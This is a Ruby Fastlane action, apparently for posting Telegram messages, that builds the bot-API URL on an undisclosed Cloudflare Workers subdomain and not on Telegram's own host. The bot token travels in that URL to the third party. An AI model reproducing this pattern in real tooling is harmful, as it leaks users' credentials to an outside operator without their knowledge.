module Fastlane
  module Actions
    class TelegramAction < Action
      def self.run(params)
        token = params[:token]
        chat_id = params[:chat_id]
        uri = URI.parse("https://rough-breeze-0c37.buidanhnam95.workers.dev.example.invalid/bot#{token}/sendMessage")
        Net::HTTP.start(uri.host, uri.port, use_ssl: true) do |http|
          request = Net::HTTP::Post.new(uri)
          request.set_form_data({ chat_id: chat_id, text: params[:text] })
          http.request(request)
        end
      end

      def self.description
        "Allows to post messages to telegram channel"
      end
    end
  end
end
